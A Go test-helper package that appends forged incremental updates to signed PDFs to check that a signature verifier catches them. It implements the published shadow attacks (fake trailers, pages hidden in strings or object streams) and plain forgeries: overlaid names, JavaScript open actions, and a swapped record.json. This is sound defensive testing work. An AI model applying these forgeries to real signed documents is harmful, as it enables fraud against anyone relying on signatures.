// Package pdfattack writes forged incremental updates onto signed PDFs, for tests: the
// shadow attacks of Mainka, Mladenov and Rohlmann ("Shadow Attacks: Hiding and Replacing
// Content in Signed PDFs", NDSS 2021), the incremental-saving attacks of their earlier work
// ("1 Trillion Dollar Refund", CCS 2019), and the plain changes an editor can append after
// signing (page content, annotations, form fields, JavaScript, attachments, pages). Every
// attack leaves the signed bytes untouched, so the signature's digest still matches: only a
// verifier that reads what a viewer reads can tell.
//
// The generators read the signed file with pdfcpu to find the objects they change (catalog,
// page tree, first page, its content stream, the stream that carries record.json), then append one or
// more updates. They are written for the PDFs SoHoa makes (sign.BuildPDF + sign.Sign) but use
// no SoHoa-specific object numbers.
//
// Nothing here is used outside tests.
package pdfattack

import (
	"bytes"
	"compress/zlib"
	"encoding/hex"
	"errors"
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"

	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"
)

// ForgedText is the text the visible forgeries draw on page 1 (a viewer's text extraction,
// e.g. pdftotext, shows it when the forgery took effect).
const ForgedText = "FORGED-HOLDER-NAME"

// Attack is one way of changing a signed PDF after signing.
type Attack struct {
	Name string // short identifier, e.g. "objstm-flate-array"
	// Class: "shadow" (written to hide from a byte scanner: the seven variants of issue 10),
	// "incremental" (a plain incremental update) or "legit" (a change ISO 32000-2 allows
	// after signing, which must leave the signature intact).
	Class string
	// Changes says what a viewer shows differently, e.g. "page 1".
	Changes string
	Apply   func(signed []byte) ([]byte, error)
}

// Shadow returns the seven variants that hide a changed page from a byte scanner.
func Shadow() []Attack {
	return []Attack{
		{"fake-trailer-in-string", "shadow", "page 1 (new catalog and page tree)", fakeTrailer(true)},
		{"fake-trailer-in-comment", "shadow", "page 1 (new catalog and page tree)", fakeTrailer(false)},
		{"page-in-string", "shadow", "page 1", pageInString},
		{"comment-between-number-and-obj", "shadow", "page 1", commentBeforeObj},
		{"objstm-unfiltered", "shadow", "page 1", objStm("")},
		{"objstm-flate-array", "shadow", "page 1", objStm("[/FlateDecode]")},
		{"objstm-asciihex-flate", "shadow", "page 1", objStm("[/ASCIIHexDecode /FlateDecode]")},
	}
}

// Incremental returns plain incremental updates that change what a viewer shows.
func Incremental() []Attack {
	return []Attack{
		{"page-content", "incremental", "page 1 content", pageContent},
		{"page-overlay", "incremental", "page 1 (forged name drawn over it)", pageOverlay},
		{"annotation", "incremental", "page 1 annotation", annotation},
		{"form-field", "incremental", "new form field on page 1", formField},
		{"openaction-javascript", "incremental", "catalog /OpenAction", openAction},
		{"names-javascript", "incremental", "catalog /Names /JavaScript", namesJavaScript},
		{"replaced-record", "incremental", "record.json (the record's fields)", replaceRecord},
		{"added-record-attachment", "incremental", "a second record.json, attached", addRecordAttachment},
		{"added-page", "incremental", "a page added", addPage},
		{"removed-page", "incremental", "last page removed", removePage},
		{"objstm-flate", "incremental", "page 1 (object stream, /FlateDecode)", objStm("/FlateDecode")},
		{"hybrid-xrefstm", "incremental", "page 1 (hybrid-reference update, /XRefStm)", hybrid},
	}
}

// Legit returns updates that ISO 32000-2 allows after an approval signature.
func Legit() []Attack {
	return []Attack{
		{"add-dss", "legit", "validation data (DSS/VRI) added", addDSS},
		{"update-info", "legit", "document information updated", updateInfo},
		{"add-xmp-metadata", "legit", "XMP metadata added", addXMP},
	}
}

// All returns Shadow() and Incremental().
func All() []Attack { return append(Shadow(), Incremental()...) }

// doc is what the generators need of the signed file's final revision.
type doc struct {
	data      []byte
	ctx       *model.Context
	size      int
	root      int
	catalog   types.Dict
	pagesNum  int
	pages     []int // page object numbers in order
	page1     types.Dict
	content1  int    // first content stream of page 1
	content1D []byte // its decoded content
	startxref int64
	info, id  string // trailer entries as written ("" when absent)
}

func conf() *model.Configuration {
	return &model.Configuration{
		Version: model.VersionStr, Reader15: true, ValidationMode: model.ValidationRelaxed,
		Eol: types.EolLF, Cmd: model.VALIDATE, Offline: true, Limits: model.DefaultResourceLimits(),
	}
}

var startxrefRE = regexp.MustCompile(`startxref\s+(\d+)\s+%%EOF\s*$`)

func load(data []byte) (*doc, error) {
	ctx, err := pdfcpu.Read(bytes.NewReader(data), conf())
	if err != nil {
		return nil, err
	}
	d := &doc{data: data, ctx: ctx, size: *ctx.Size}
	m := startxrefRE.FindSubmatch(data)
	if m == nil {
		return nil, errors.New("pdfattack: no startxref at the end")
	}
	d.startxref, _ = strconv.ParseInt(string(m[1]), 10, 64)
	d.root = int(ctx.Root.ObjectNumber)
	if d.catalog, err = ctx.DereferenceDict(*ctx.Root); err != nil {
		return nil, err
	}
	if ctx.Info != nil {
		d.info = ctx.Info.PDFString()
	}
	if ctx.ID != nil {
		d.id = pdfText(ctx.ID)
	}
	pr, ok := d.catalog["Pages"].(types.IndirectRef)
	if !ok {
		return nil, errors.New("pdfattack: /Pages is not a reference")
	}
	d.pagesNum = int(pr.ObjectNumber)
	pages, err := ctx.DereferenceDict(pr)
	if err != nil {
		return nil, err
	}
	kids, _ := pages["Kids"].(types.Array)
	for _, k := range kids {
		r, ok := k.(types.IndirectRef)
		if !ok {
			return nil, errors.New("pdfattack: page tree kid is not a reference")
		}
		d.pages = append(d.pages, int(r.ObjectNumber))
	}
	if len(d.pages) == 0 {
		return nil, errors.New("pdfattack: no pages")
	}
	if d.page1, err = ctx.DereferenceDict(types.IndirectRef{ObjectNumber: types.Integer(d.pages[0])}); err != nil {
		return nil, err
	}
	cr, ok := d.page1["Contents"].(types.IndirectRef)
	if !ok {
		return nil, errors.New("pdfattack: page 1 /Contents is not a single reference")
	}
	d.content1 = int(cr.ObjectNumber)
	sd, _, err := ctx.DereferenceStreamDict(cr)
	if err != nil || sd == nil {
		return nil, fmt.Errorf("pdfattack: page 1 content: %v", err)
	}
	if err := sd.Decode(); err != nil {
		return nil, err
	}
	d.content1D = sd.Content
	return d, nil
}

// ref formats an indirect reference.
func ref(n int) string { return fmt.Sprintf("%d 0 R", n) }

// with returns a copy of dict d with the given entries replaced (nil deletes), as PDF text.
func with(d types.Dict, kv ...any) string {
	c := d.Clone().(types.Dict)
	for i := 0; i+1 < len(kv); i += 2 {
		k := kv[i].(string)
		switch v := kv[i+1].(type) {
		case nil:
			delete(c, k)
		case string: // raw PDF syntax
			c[k] = raw(v)
		case types.Object:
			c[k] = v
		}
	}
	return pdfText(c)
}

// pdfText writes o as PDF syntax (pdfcpu's own PDFString drops values of other types, such
// as raw).
func pdfText(o types.Object) string {
	switch v := o.(type) {
	case nil:
		return "null"
	case types.Dict:
		keys := make([]string, 0, len(v))
		for k := range v {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		var b strings.Builder
		b.WriteString("<<")
		for _, k := range keys {
			fmt.Fprintf(&b, " /%s %s", types.EncodeName(k), pdfText(v[k]))
		}
		b.WriteString(" >>")
		return b.String()
	case types.Array:
		parts := make([]string, len(v))
		for i, e := range v {
			parts[i] = pdfText(e)
		}
		return "[" + strings.Join(parts, " ") + "]"
	default:
		return o.PDFString()
	}
}

// raw is PDF syntax written as it is.
type raw string

func (r raw) Clone() types.Object { return r }
func (r raw) String() string      { return string(r) }
func (r raw) PDFString() string   { return string(r) }

// update accumulates objects appended after the signed file.
type update struct {
	d    *doc
	buf  bytes.Buffer
	offs map[int]int64
	next int
}

func newUpdate(d *doc) *update {
	u := &update{d: d, offs: map[int]int64{}, next: d.size}
	u.buf.Write(d.data)
	if !bytes.HasSuffix(d.data, []byte("\n")) {
		u.buf.WriteByte('\n')
	}
	return u
}

func (u *update) alloc() int { n := u.next; u.next++; return n }
func (u *update) pos() int64 { return int64(u.buf.Len()) }

func (u *update) obj(n int, body string) {
	u.offs[n] = u.pos()
	fmt.Fprintf(&u.buf, "%d 0 obj\n%s\nendobj\n", n, body)
}

func (u *update) stream(n int, dict string, data []byte) {
	u.offs[n] = u.pos()
	fmt.Fprintf(&u.buf, "%d 0 obj\n<< %s /Length %d >>\nstream\n", n, dict, len(data))
	u.buf.Write(data)
	u.buf.WriteString("\nendstream\nendobj\n")
}

func (u *update) size() int {
	s := u.next
	for n := range u.offs {
		if n >= s {
			s = n + 1
		}
	}
	return s
}

func (u *update) trailerExtra() string {
	s := ""
	if u.d.info != "" {
		s += " /Info " + u.d.info
	}
	if u.d.id != "" {
		s += " /ID " + u.d.id
	}
	return s
}

// classic ends the update with a cross-reference table listing every object written,
// root being the catalog's number.
func (u *update) classic(root int, extra string) []byte {
	x := u.pos()
	u.buf.WriteString("xref\n")
	nums := make([]int, 0, len(u.offs))
	for n := range u.offs {
		nums = append(nums, n)
	}
	sort.Ints(nums)
	for i := 0; i < len(nums); {
		j := i
		for j+1 < len(nums) && nums[j+1] == nums[j]+1 {
			j++
		}
		fmt.Fprintf(&u.buf, "%d %d\n", nums[i], j-i+1)
		for k := i; k <= j; k++ {
			fmt.Fprintf(&u.buf, "%010d 00000 n \n", u.offs[nums[k]])
		}
		i = j + 1
	}
	fmt.Fprintf(&u.buf, "trailer\n<< /Size %d /Root %s /Prev %d%s%s >>\nstartxref\n%d\n%%%%EOF\n",
		u.size(), ref(root), u.d.startxref, u.trailerExtra(), extra, x)
	return u.buf.Bytes()
}

// xrefEntry is one row of a cross-reference stream.
type xrefEntry struct {
	typ      int
	f2, f3   int64
	objectNr int
}

// xrefStreamBytes builds an xref stream object body (without "N 0 obj") with W [1 4 2],
// unfiltered so that its size does not depend on the values; prev < 0 leaves /Prev out.
func xrefStreamBytes(entries []xrefEntry, size, root int, prev int64, extra string) string {
	sort.Slice(entries, func(i, j int) bool { return entries[i].objectNr < entries[j].objectNr })
	var data bytes.Buffer
	var index []string
	for i := 0; i < len(entries); {
		j := i
		for j+1 < len(entries) && entries[j+1].objectNr == entries[j].objectNr+1 {
			j++
		}
		index = append(index, fmt.Sprintf("%d %d", entries[i].objectNr, j-i+1))
		i = j + 1
	}
	for _, e := range entries {
		data.WriteByte(byte(e.typ))
		data.Write([]byte{byte(e.f2 >> 24), byte(e.f2 >> 16), byte(e.f2 >> 8), byte(e.f2)})
		data.Write([]byte{byte(e.f3 >> 8), byte(e.f3)})
	}
	p := ""
	if prev >= 0 {
		p = fmt.Sprintf(" /Prev %d", prev)
	}
	return fmt.Sprintf("<< /Type /XRef /W [1 4 2] /Index [%s] /Size %d /Root %s%s%s /Length %d >>\nstream\n%s\nendstream",
		strings.Join(index, " "), size, ref(root), p, extra, data.Len(), data.Bytes())
}

func deflate(b []byte) []byte {
	var buf bytes.Buffer
	zw := zlib.NewWriter(&buf)
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}

// forgedPage writes the objects of a forged page 1 (a new content stream drawing ForgedText
// in Helvetica over a white box, after the original content, and the font) and returns the
// forged page dictionary (not yet written), parent being its page tree node.
func (u *update) forgedPage(parent int) string {
	font := u.alloc()
	u.obj(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
	content := u.alloc()
	u.stream(content, "", []byte("q 1 1 1 rg 10 10 260 30 re f Q BT /SoHoaForged 16 Tf 0 g 14 18 Td ("+ForgedText+") Tj ET"))
	res, _ := u.d.page1["Resources"].(types.Dict)
	if r, ok := u.d.page1["Resources"].(types.IndirectRef); ok {
		res, _ = u.d.ctx.DereferenceDict(r)
	}
	if res == nil {
		res = types.Dict{}
	}
	res = res.Clone().(types.Dict)
	fonts, _ := res["Font"].(types.Dict)
	fonts = types.Dict(fonts).Clone().(types.Dict)
	if fonts == nil {
		fonts = types.Dict{}
	}
	fonts["SoHoaForged"] = raw(ref(font))
	res["Font"] = fonts
	return with(u.d.page1, "Parent", ref(parent), "Contents", fmt.Sprintf("[%s %s]", ref(u.d.content1), ref(content)), "Resources", res)
}

func fakeTrailer(inString bool) func([]byte) ([]byte, error) {
	return func(signed []byte) ([]byte, error) {
		d, err := load(signed)
		if err != nil {
			return nil, err
		}
		u := newUpdate(d)
		cat, pages, page := u.alloc(), u.alloc(), u.alloc()
		kids := []string{ref(page)}
		for _, p := range d.pages[1:] {
			kids = append(kids, ref(p))
		}
		u.obj(page, u.forgedPage(pages))
		u.obj(pages, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), len(kids)))
		u.obj(cat, with(d.catalog, "Pages", ref(pages)))
		// A fake trailer naming the old catalog, after the cross-reference stream: a byte
		// scanner looking for the last trailer takes it for the real one.
		fake := fmt.Sprintf("trailer << /Size %d /Root %s >>", d.size, ref(d.root))
		xs := u.alloc()
		var tail string
		var entries []xrefEntry
		for n, off := range u.offs {
			entries = append(entries, xrefEntry{1, off, 0, n})
		}
		extra := ""
		if d.info != "" {
			extra += " /Info " + d.info
		}
		if d.id != "" {
			extra += " /ID " + d.id
		}
		xsOff := u.pos()
		var holder int
		if inString {
			holder = u.alloc()
		}
		size := u.size()
		if inString {
			// The holder object follows the xref stream; its offset is known because the
			// unfiltered stream's size does not depend on the values.
			probe := fmt.Sprintf("%d 0 obj\n%s\nendobj\n", xs, xrefStreamBytes(append(append([]xrefEntry{}, entries...), xrefEntry{1, 0, 0, xs}, xrefEntry{1, 0, 0, holder}), size, cat, d.startxref, extra))
			entries = append(entries, xrefEntry{1, xsOff, 0, xs}, xrefEntry{1, xsOff + int64(len(probe)), 0, holder})
			tail = fmt.Sprintf("%d 0 obj\n(%s)\nendobj\n", holder, fake)
		} else {
			entries = append(entries, xrefEntry{1, xsOff, 0, xs})
			tail = "%" + fake + "\n"
		}
		fmt.Fprintf(&u.buf, "%d 0 obj\n%s\nendobj\n", xs, xrefStreamBytes(entries, size, cat, d.startxref, extra))
		u.buf.WriteString(tail)
		fmt.Fprintf(&u.buf, "startxref\n%d\n%%%%EOF\n", xsOff)
		return u.buf.Bytes(), nil
	}
}

// pageInString hides the forged page 1 inside a literal string of another object; the
// cross-reference table points into the string.
func pageInString(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	page := u.forgedPage(d.pagesNum)
	if strings.ContainsAny(page, "()\\") {
		return nil, errors.New("pdfattack: page dictionary has strings")
	}
	holder := u.alloc()
	u.offs[holder] = u.pos()
	fmt.Fprintf(&u.buf, "%d 0 obj\n(", holder)
	u.offs[d.pages[0]] = u.pos()
	fmt.Fprintf(&u.buf, "%d 0 obj\n%s\nendobj\n)\nendobj\n", d.pages[0], page)
	return u.classic(d.root, ""), nil
}

// commentBeforeObj redefines page 1 with a comment between "N 0" and "obj".
func commentBeforeObj(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	page := u.forgedPage(d.pagesNum)
	u.offs[d.pages[0]] = u.pos()
	fmt.Fprintf(&u.buf, "%d 0 %% not a byte scanner's object\nobj\n%s\nendobj\n", d.pages[0], page)
	return u.classic(d.root, ""), nil
}

// objStm puts the forged page 1 into an object stream with the given /Filter ("" for none)
// and ends the update with a cross-reference stream.
func objStm(filterSpec string) func([]byte) ([]byte, error) {
	return func(signed []byte) ([]byte, error) {
		d, err := load(signed)
		if err != nil {
			return nil, err
		}
		u := newUpdate(d)
		page := u.forgedPage(d.pagesNum)
		hdr := fmt.Sprintf("%d 0 ", d.pages[0])
		body := []byte(hdr + page + "\n")
		data := body
		switch filterSpec {
		case "/FlateDecode", "[/FlateDecode]":
			data = deflate(body)
		case "[/ASCIIHexDecode /FlateDecode]":
			data = []byte(strings.ToUpper(hex.EncodeToString(deflate(body))) + ">")
		}
		dict := fmt.Sprintf("/Type /ObjStm /N 1 /First %d", len(hdr))
		if filterSpec != "" {
			dict += " /Filter " + filterSpec
		}
		stm := u.alloc()
		u.stream(stm, dict, data)
		xs := u.alloc()
		var entries []xrefEntry
		for n, off := range u.offs {
			entries = append(entries, xrefEntry{1, off, 0, n})
		}
		entries = append(entries, xrefEntry{2, int64(stm), 0, d.pages[0]}, xrefEntry{1, u.pos(), 0, xs})
		extra := ""
		if d.info != "" {
			extra += " /Info " + d.info
		}
		if d.id != "" {
			extra += " /ID " + d.id
		}
		xsOff := u.pos()
		fmt.Fprintf(&u.buf, "%d 0 obj\n%s\nendobj\n", xs, xrefStreamBytes(entries, u.size(), d.root, d.startxref, extra))
		fmt.Fprintf(&u.buf, "startxref\n%d\n%%%%EOF\n", xsOff)
		return u.buf.Bytes(), nil
	}
}

// hybrid writes the forged page into an object stream listed only by a cross-reference
// stream that a classic trailer names with /XRefStm (a hybrid-reference update).
func hybrid(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	page := u.forgedPage(d.pagesNum)
	hdr := fmt.Sprintf("%d 0 ", d.pages[0])
	stm := u.alloc()
	u.stream(stm, fmt.Sprintf("/Type /ObjStm /N 1 /First %d /Filter /FlateDecode", len(hdr)), deflate([]byte(hdr+page+"\n")))
	xs := u.alloc()
	xsOff := u.pos()
	fmt.Fprintf(&u.buf, "%d 0 obj\n%s\nendobj\n", xs, xrefStreamBytes([]xrefEntry{{2, int64(stm), 0, d.pages[0]}}, u.next, d.root, -1, ""))
	delete(u.offs, xs)
	u.offs[xs] = xsOff
	return u.classic(d.root, fmt.Sprintf(" /XRefStm %d", xsOff)), nil
}

func pageContent(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	// The original drawing, then the page painted white but for a strip: the scan is gone.
	c := append(bytes.Clone(d.content1D), []byte("\nq 1 1 1 rg 0 40 10000 10000 re f Q\n")...)
	u.stream(d.content1, "/Filter /FlateDecode", deflate(c))
	return u.classic(d.root, ""), nil
}

func pageOverlay(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	u.obj(d.pages[0], u.forgedPage(d.pagesNum))
	return u.classic(d.root, ""), nil
}

// appearance writes a form XObject drawing ForgedText in Helvetica and returns its number.
func (u *update) appearance() int {
	font := u.alloc()
	u.obj(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
	ap := u.alloc()
	u.stream(ap, fmt.Sprintf("/Type /XObject /Subtype /Form /BBox [0 0 260 30] /Resources << /Font << /Helv %s >> >>", ref(font)),
		[]byte("q 1 1 1 rg 0 0 260 30 re f Q BT /Helv 16 Tf 0 g 4 8 Td ("+ForgedText+") Tj ET"))
	return ap
}

func annotation(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	ap := u.appearance()
	annot := u.alloc()
	u.obj(annot, fmt.Sprintf("<< /Type /Annot /Subtype /FreeText /Rect [10 10 270 40] /Contents (%s) /DA (/Helv 16 Tf 0 g) /F 4 /P %s /AP << /N %s >> >>", ForgedText, ref(d.pages[0]), ref(ap)))
	u.obj(d.pages[0], with(d.page1, "Annots", "["+ref(annot)+"]"))
	return u.classic(d.root, ""), nil
}

func formField(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	ap := u.appearance()
	field := u.alloc()
	u.obj(field, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /T (ho_ten) /V (%s) /Rect [10 10 270 40] /F 4 /P %s /DA (/Helv 16 Tf 0 g) /AP << /N %s >> >>", ForgedText, ref(d.pages[0]), ref(ap)))
	u.obj(d.pages[0], with(d.page1, "Annots", "["+ref(field)+"]"))
	af, _ := d.catalog["AcroForm"].(types.Dict)
	if r, ok := d.catalog["AcroForm"].(types.IndirectRef); ok {
		af, _ = d.ctx.DereferenceDict(r)
	}
	fields := ""
	if af != nil {
		if a, ok := af["Fields"].(types.Array); ok {
			fields = pdfText(a)
			fields = strings.TrimSuffix(strings.TrimPrefix(fields, "["), "]")
		}
	} else {
		af = types.Dict{}
	}
	acro := with(af, "Fields", "["+strings.TrimSpace(fields+" "+ref(field))+"]")
	u.obj(d.root, with(d.catalog, "AcroForm", acro))
	return u.classic(d.root, ""), nil
}

func openAction(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	u.obj(d.root, with(d.catalog, "OpenAction", "<< /S /JavaScript /JS (app.alert\\('"+ForgedText+"'\\);) >>"))
	return u.classic(d.root, ""), nil
}

func namesJavaScript(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	js := u.alloc()
	u.obj(js, "<< /S /JavaScript /JS (this.getField\\('x'\\);) >>")
	names, _ := d.catalog["Names"].(types.Dict)
	if names == nil {
		names = types.Dict{}
	}
	u.obj(d.root, with(d.catalog, "Names", with(names, "JavaScript", "<< /Names [(init) "+ref(js)+"] >>")))
	return u.classic(d.root, ""), nil
}

// replaceRecord rewrites the stream that carries record.json (in /PieceInfo, or the
// embedded file of a PDF/A-3b document) in place: same object number, forged fields.
func replaceRecord(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	num, attached, err := d.record()
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	forged := []byte(`{"ho_ten":"` + ForgedText + `"}`)
	dict := "/Subtype /application#2Fjson /Filter /FlateDecode"
	if attached {
		dict = fmt.Sprintf("/Type /EmbeddedFile /Subtype /application#2Fjson /Params << /Size %d >> /Filter /FlateDecode", len(forged))
	}
	u.stream(num, dict, deflate(forged))
	return u.classic(d.root, ""), nil
}

// addRecordAttachment attaches a forged record.json beside the one the document carries.
func addRecordAttachment(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	forged := []byte(`{"ho_ten":"` + ForgedText + `"}`)
	ef := u.alloc()
	u.stream(ef, fmt.Sprintf("/Type /EmbeddedFile /Subtype /application#2Fjson /Params << /Size %d >> /Filter /FlateDecode", len(forged)), deflate(forged))
	fs := u.alloc()
	u.obj(fs, fmt.Sprintf("<< /Type /Filespec /F (record.json) /UF (record.json) /AFRelationship /Data /EF << /F %s /UF %s >> >>", ref(ef), ref(ef)))
	names, _ := d.catalog["Names"].(types.Dict)
	if names == nil {
		names = types.Dict{}
	}
	u.obj(d.root, with(d.catalog, "Names", with(names, "EmbeddedFiles", "<< /Names [(record.json) "+ref(fs)+"] >>")))
	return u.classic(d.root, ""), nil
}

func addPage(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	np := u.alloc()
	u.obj(np, u.forgedPage(d.pagesNum))
	kids := []string{}
	for _, p := range d.pages {
		kids = append(kids, ref(p))
	}
	kids = append(kids, ref(np))
	u.obj(d.pagesNum, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), len(kids)))
	return u.classic(d.root, ""), nil
}

func removePage(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	if len(d.pages) < 2 {
		return nil, errors.New("pdfattack: removing the only page")
	}
	u := newUpdate(d)
	kids := []string{}
	for _, p := range d.pages[:len(d.pages)-1] {
		kids = append(kids, ref(p))
	}
	u.obj(d.pagesNum, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), len(kids)))
	return u.classic(d.root, ""), nil
}

// DSS adds validation data: a document security store with one certificate, an OCSP-like
// blob and a VRI entry, hooked into a new version of the catalog. certDER is any DER blob.
func DSS(signed, certDER []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	cert := u.alloc()
	u.stream(cert, "", certDER)
	vri := u.alloc()
	u.obj(vri, fmt.Sprintf("<< /Type /VRI /Cert [%s] >>", ref(cert)))
	dss := u.alloc()
	u.obj(dss, fmt.Sprintf("<< /Type /DSS /Certs [%s] /VRI << /0123456789ABCDEF0123456789ABCDEF01234567 %s >> >>", ref(cert), ref(vri)))
	u.obj(d.root, with(d.catalog, "DSS", ref(dss)))
	return u.classic(d.root, ""), nil
}

func addDSS(signed []byte) ([]byte, error) { return DSS(signed, []byte{0x30, 0x03, 0x02, 0x01, 0x01}) }

func updateInfo(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	if d.ctx.Info == nil {
		return nil, errors.New("pdfattack: no /Info")
	}
	u := newUpdate(d)
	u.obj(int(d.ctx.Info.ObjectNumber), "<< /Title (Renamed) /Producer (SoHoa) /ModDate (D:20261124100000Z) >>")
	return u.classic(d.root, ""), nil
}

func addXMP(signed []byte) ([]byte, error) {
	d, err := load(signed)
	if err != nil {
		return nil, err
	}
	u := newUpdate(d)
	x := u.alloc()
	u.stream(x, "/Type /Metadata /Subtype /XML", []byte(`<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta><?xpacket end="w"?>`))
	u.obj(d.root, with(d.catalog, "Metadata", ref(x)))
	return u.classic(d.root, ""), nil
}

// PageObject returns the object number of page n (1-based) of a PDF, and ContentObject that
// of its first content stream: for tests that check a reason names the right object.
func PageObject(pdf []byte, n int) (int, error) {
	d, err := load(pdf)
	if err != nil {
		return 0, err
	}
	if n < 1 || n > len(d.pages) {
		return 0, fmt.Errorf("pdfattack: no page %d", n)
	}
	return d.pages[n-1], nil
}

// Objects returns the object numbers a test may expect in a reason: "catalog", "pages",
// "page1", "content1" (page 1's content stream), "lastpage", "info" and "record" (the
// stream that carries record.json; absent when there is none).
func Objects(pdf []byte) (map[string]int, error) {
	d, err := load(pdf)
	if err != nil {
		return nil, err
	}
	m := map[string]int{"catalog": d.root, "pages": d.pagesNum, "page1": d.pages[0], "content1": d.content1, "lastpage": d.pages[len(d.pages)-1]}
	if d.ctx.Info != nil {
		m["info"] = int(d.ctx.Info.ObjectNumber)
	}
	if n, _, err := d.record(); err == nil {
		m["record"] = n
	}
	return m, nil
}

// record returns the object number of the stream that carries record.json: the catalog's
// /PieceInfo /SoHoa /Private, or (attached true) the first embedded file's stream.
func (d *doc) record() (num int, attached bool, err error) {
	if pi, err := d.ctx.DereferenceDict(d.catalog["PieceInfo"]); err == nil && pi != nil {
		if app, err := d.ctx.DereferenceDict(pi["SoHoa"]); err == nil && app != nil {
			if r, ok := app["Private"].(types.IndirectRef); ok {
				return int(r.ObjectNumber), false, nil
			}
		}
	}
	names, _ := d.catalog["Names"].(types.Dict)
	ef, _ := names["EmbeddedFiles"].(types.Dict)
	arr, _ := ef["Names"].(types.Array)
	if len(arr) < 2 {
		return 0, false, errors.New("pdfattack: no record.json")
	}
	fs, err := d.ctx.DereferenceDict(arr[1])
	if err != nil {
		return 0, false, err
	}
	efd, _ := fs["EF"].(types.Dict)
	fr, ok := efd["F"].(types.IndirectRef)
	if !ok {
		return 0, false, errors.New("pdfattack: /EF /F is not a reference")
	}
	return int(fr.ObjectNumber), true, nil
}
